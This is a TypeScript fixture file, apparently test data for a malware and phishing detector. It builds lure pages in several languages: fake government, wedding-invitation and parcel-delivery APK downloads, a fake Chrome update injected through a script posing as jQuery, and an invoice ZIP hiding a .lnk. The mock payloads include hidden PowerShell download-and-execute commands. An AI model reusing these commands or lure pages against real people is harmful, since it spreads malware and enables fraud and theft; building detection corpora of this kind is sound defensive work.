import type { Entry } from '../entry.js';
import { doc, mobileCss, corpCss, shell, okJson, img, htmlRoute, redirectRoute, jsRoute, jsonRoute, apk, fileRoute, zip, lnk, pe, cfb } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-mal-apk-vneid-dichvucong-vi',
  label: 'malware',
  kind: 'fake-app-apk',
  url: 'https://dichvucong-gov.vn-app.com/',
  body: doc({
    lang: 'vi',
    title: 'Cổng Dịch vụ công Quốc gia - Tải ứng dụng',
    css: corpCss('#b31c1c', '#b31c1c') + '.hero{display:grid;grid-template-columns:1fr 1fr;gap:30px;align-items:center}.phone{height:380px;background:linear-gradient(#b31c1c,#6e0e0e);border-radius:30px}@media(max-width:700px){.hero{grid-template-columns:1fr}}',
    body: shell({ brand: 'DVC', logo: 'CỔNG DỊCH VỤ CÔNG QUỐC GIA', nav: ['Giới thiệu', 'Thủ tục hành chính', 'Hỗ trợ'], footer: 'Cơ quan chủ quản: Văn phòng Chính phủ. Tổng đài hỗ trợ: 18001096', links: ['Điều khoản sử dụng', 'Chính sách bảo mật'] })(`<div class="hero"><div><h1>Ứng dụng Dịch vụ công — Định danh điện tử mức 2</h1>
<p>Từ ngày 01/01, công dân phải cập nhật thông tin cư trú, thuế thu nhập cá nhân và đồng bộ tài khoản ngân hàng trên ứng dụng để tránh bị khoá căn cước và tài khoản ngân hàng.</p>
<p><a class="btn" id="dl" href="/tai-ve/DichVuCong_2.1.apk">Tải về cho Android</a> <a class="btn" href="#" style="background:#555" onclick="alert('Phiên bản iOS đang được cập nhật. Vui lòng sử dụng điện thoại Android.');return false">App Store</a></p>
<p class="muted">Sau khi cài đặt, vui lòng cấp quyền "Hỗ trợ tiếp cận" và "Hiển thị trên ứng dụng khác" để hoàn tất xác thực khuôn mặt. Cán bộ công an phường sẽ hướng dẫn qua Zalo.</p></div><div class="phone"></div></div>
<script>if(/Android/i.test(navigator.userAgent)){setTimeout(function(){location.href=document.getElementById('dl').href},2500)}</script>`),
  }),
  routes: {
    'dichvucong-gov.vn-app.com/tai-ve/DichVuCong_2.1.apk': fileRoute(apk('vn.gov.dichvucong.app', 'Dịch vụ công', ['BIND_ACCESSIBILITY_SERVICE', 'SYSTEM_ALERT_WINDOW', 'READ_SMS', 'com.VCB', 'com.mbmobile', 'vn.com.techcombank.bb.app']), 'application/vnd.android.package-archive', 'DichVuCong_2.1.apk'),
  },
},
{
  id: 'u-mal-apk-undangan-pernikahan-id',
  label: 'malware',
  kind: 'fake-app-apk',
  url: 'https://undangan-digital.my.id/rizky-ayu/',
  body: `<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Undangan Pernikahan Rizky & Ayu</title>
<style>body{margin:0;font-family:Georgia,serif;background:#f7efe5;color:#5b4636;text-align:center}.c{max-width:420px;margin:0 auto;padding:40px 20px}h1{font-size:34px;font-weight:normal;font-style:italic}a.b{display:inline-block;margin-top:24px;background:#8b6b4a;color:#fff;padding:14px 30px;border-radius:30px;text-decoration:none;font-family:Arial}small{display:block;margin-top:14px;font-family:Arial;color:#9b8572}</style></head>
<body><div class="c"><p>The Wedding of</p><h1>Rizky &amp; Ayu</h1><p>Sabtu, 20 Desember 2026<br>Gedung Serbaguna Graha Mulia, Bekasi</p>
<p>Kepada Yth. Bapak/Ibu/Saudara/i<br>Tanpa mengurangi rasa hormat, kami mengundang Anda untuk hadir di acara pernikahan kami.</p>
<a class="b" href="/rizky-ayu/Undangan_Pernikahan.apk">📩 Buka Undangan (lihat foto & lokasi)</a>
<small>Undangan digital ini dalam bentuk aplikasi. Jika muncul peringatan, pilih "Tetap instal".</small></div></body></html>`,
  routes: {
    'undangan-digital.my.id/rizky-ayu/Undangan_Pernikahan.apk': fileRoute(apk('com.undangan.digital', 'Undangan Pernikahan', ['SmsReceiver', 'api.telegram.org/bot', 'sendMessage', 'READ_SMS', 'RECEIVE_SMS']), 'application/vnd.android.package-archive', 'Undangan_Pernikahan.apk'),
  },
},
{
  id: 'u-mal-apk-pm-kisan-yojana-hi',
  label: 'malware',
  kind: 'fake-app-apk',
  url: 'https://pmkisan-update.in-app.net/',
  body: `<!DOCTYPE html><html lang="hi"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>PM Kisan Samman Nidhi - KYC Update App</title>
<style>body{font-family:Arial;margin:0;background:#fffbe8}.t{background:#138808;color:#fff;padding:14px;font-size:18px;text-align:center}.c{padding:18px}.d{display:block;background:#ff9933;color:#fff;text-align:center;padding:15px;font-size:18px;border-radius:6px;text-decoration:none;margin:18px 0}</style></head>
<body><div class="t">प्रधानमंत्री किसान सम्मान निधि</div><div class="c">
<h2>₹6,000 की 19वीं किस्त पाने के लिए e-KYC ऐप डाउनलोड करें</h2>
<p>जिन किसानों ने ऐप के माध्यम से e-KYC पूरा नहीं किया है, उनकी अगली किस्त रोक दी जाएगी। नीचे दिए बटन से "PM Kisan KYC" ऐप इंस्टॉल करें और आधार नंबर से लॉगिन करें।</p>
<a class="d" href="/files/PM_Kisan_KYC.apk">PM Kisan KYC ऐप डाउनलोड करें</a>
<p style="font-size:13px">इंस्टॉल करते समय "Unknown sources" की अनुमति दें। ऐप को SMS की अनुमति दें ताकि OTP अपने आप भर जाए।</p>
<p style="font-size:12px;color:#666">Department of Agriculture & Farmers Welfare, Government of India</p></div></body></html>`,
  routes: {
    'pmkisan-update.in-app.net/files/PM_Kisan_KYC.apk': fileRoute(apk('in.gov.pmkisan.kyc', 'PM Kisan KYC', ['READ_SMS', 'RECEIVE_SMS', 'sms_forward', 'https://pmk-panel.in-app.net/api/sms']), 'application/vnd.android.package-archive', 'PM_Kisan_KYC.apk'),
  },
},
{
  id: 'u-mal-apk-cj-taekbae-ko',
  label: 'malware',
  kind: 'fake-app-apk',
  url: 'https://cj-delivery.kr-track.info/m/',
  body: doc({
    lang: 'ko',
    title: 'CJ대한통운 - 배송조회',
    css: mobileCss('#005eb8') + 'body{font-family:"Malgun Gothic",sans-serif}',
    body: `<div class="bar">CJ대한통운</div>
<div class="wrap">
<div class="box"><h2>주소지 불명으로 배송이 보류되었습니다</h2>
<div class="row"><span>운송장번호</span><b>6840-2219-3307</b></div><div class="row"><span>상태</span><b class="red">주소 확인 필요</b></div>
<p style="font-size:14px">정확한 배송을 위해 공식 배송조회 앱을 설치 후 주소를 수정해 주세요. 미수정 시 상품은 반송 처리됩니다.</p>
<button onclick="location.href='/m/CJ_Delivery.apk'">앱 설치 후 주소 수정</button>
<p class="tip">설치 시 "출처를 알 수 없는 앱" 허용이 필요합니다.</p></div></div>
<div class="ft">CJ대한통운(주) 고객센터 1588-1255</div>`,
  }),
  routes: {
    'cj-delivery.kr-track.info/m/CJ_Delivery.apk': fileRoute(apk('com.cj.delivery.track', 'CJ대한통운', ['READ_SMS', 'READ_CONTACTS', 'CALL_PHONE', 'call_forward', 'com.kbstar.kbbank']), 'application/vnd.android.package-archive', 'CJ_Delivery.apk'),
  },
},
{
  id: 'u-mal-fake-chrome-update-blog-ptbr',
  label: 'malware',
  kind: 'fake-update',
  url: 'https://receitasdavovo-cozinha.com.br/bolo-de-fuba-cremoso/',
  body: doc({
    lang: 'pt-BR',
    title: 'Bolo de Fubá Cremoso da Vovó - Receitas da Vovó',
    css: corpCss('#a0522d', '#a0522d') + 'article p{font-size:16px}',
    body: shell({ brand: 'Receitas da Vovó', logo: 'Receitas da Vovó', nav: ['Bolos', 'Doces', 'Salgados', 'Sobre'], footer: '© 2026 Receitas da Vovó · Feito com amor em Minas Gerais', links: ['Contato', 'Política de Privacidade'] })(`<article class="card"><h1>Bolo de Fubá Cremoso da Vovó</h1><p class="muted">Publicado por Dona Cida · 12 de novembro · 48 comentários</p>
<p>Esse bolo de fubá é daqueles que a gente come ainda quentinho com um cafezinho passado na hora. A receita veio da minha mãe e faz sucesso em toda festa junina aqui em casa.</p>
<h3>Ingredientes</h3><ul><li>4 ovos</li><li>2 xícaras de açúcar</li><li>1 xícara de fubá</li><li>3 colheres de farinha de trigo</li><li>1 litro de leite</li><li>1 colher de fermento</li><li>50g de queijo ralado</li></ul>
<h3>Modo de preparo</h3><p>Bata tudo no liquidificador, coloque em forma untada e leve ao forno pré-aquecido a 180°C por 40 minutos. O creme se forma sozinho no meio!</p></article>`) + `<script src="/wp-content/plugins/wp-cache-opt/js/jquery.min.js?ver=3.7.1"></script>`,
  }),
  routes: {
    'receitasdavovo-cozinha.com.br/wp-content/plugins/wp-cache-opt/js/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation */
(function(){if(document.cookie.indexOf('_cv=1')>-1)return;if(!/Windows/.test(navigator.userAgent))return;document.cookie='_cv=1;path=/;max-age=86400';
setTimeout(function(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Segoe UI,Arial,sans-serif;text-align:center;padding-top:80px';
o.innerHTML='<div style="width:72px;height:72px;border-radius:50%;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0);margin:0 auto"></div><h1 style="font-weight:400;color:#202124">Seu navegador está desatualizado</h1><p style="color:#5f6368;max-width:520px;margin:0 auto">O Google Chrome não consegue exibir esta página porque está usando uma versão antiga. Atualize para a versão mais recente para continuar navegando com segurança.</p><a id="up" href="/wp-content/uploads/2026/11/ChromeUpdate_x64.msi" style="display:inline-block;margin-top:28px;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none">Atualizar Chrome</a><p style="color:#9aa0a6;font-size:12px;margin-top:40px">Google LLC © 2026</p>';
document.body.appendChild(o);},3500);})();`),
    'receitasdavovo-cozinha.com.br/wp-content/uploads/2026/11/ChromeUpdate_x64.msi': fileRoute(cfb(['ChromeUpdate', 'Google Chrome Update', 'CustomAction', 'powershell.exe -w hidden -ep bypass -c iex(iwr http://cdn-upd.receitasdavovo-cozinha.com.br/a.ps1)', 'ProductName', 'Google LLC']), 'application/x-msi', 'ChromeUpdate_x64.msi'),
  },
},
{
  id: 'u-mal-nfe-zip-lnk-ptbr',
  label: 'malware',
  kind: 'doc-lure-archive',
  url: 'https://nfe-sefaz-consulta.net/danfe/?chave=35251104778211000140550010004587191002281936',
  body: doc({
    lang: 'pt-BR',
    title: 'Nota Fiscal Eletrônica - DANFE',
    css: corpCss('#2c5f2d', '#2c5f2d') + '.dn{font-family:monospace;background:#f3f3f3;padding:10px;word-break:break-all}',
    body: shell({ brand: 'NF-e', logo: 'Portal da Nota Fiscal Eletrônica', nav: ['Consultar NF-e', 'Manifestação', 'Ajuda'], footer: 'Ambiente Nacional da NF-e · ENCAT', links: [] })(`<div class="card"><h2>Documento fiscal disponível</h2>
<p>Prezado(a) cliente, segue a Nota Fiscal Eletrônica referente à sua compra. O documento ficará disponível por 5 dias.</p>
<p>Chave de acesso:</p><div class="dn">3525 1104 7782 1100 0140 5500 1000 4587 1910 0228 1936</div>
<table><tr><td>Emitente</td><td>DISTRIBUIDORA PAULISTA DE ELETRONICOS LTDA</td></tr><tr><td>Valor total</td><td>R$ 3.487,20</td></tr><tr><td>Emissão</td><td>27/11/2026</td></tr></table>
<p style="margin-top:18px"><a class="btn" id="baixar" href="#">Baixar DANFE (PDF)</a></p>
<p class="muted">Caso o download não inicie, desative temporariamente o antivírus.</p></div>
<script>
document.getElementById('baixar').onclick=function(e){e.preventDefault();fetch('/danfe/arquivo.php?t='+Date.now()).then(function(r){return r.blob()}).then(function(b){var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='DANFE_NFe_004587191.zip';document.body.appendChild(a);a.click();});};
</script>`),
  }),
  routes: {
    'nfe-sefaz-consulta.net/danfe/arquivo.php': fileRoute(zip([{ name: 'DANFE_NFe_004587191.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -w h -c "$u=\'http://nfe-sefaz-consulta.net/danfe/n.txt\';iex (New-Object Net.WebClient).DownloadString($u)"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]), 'application/zip'),
  },
},
];
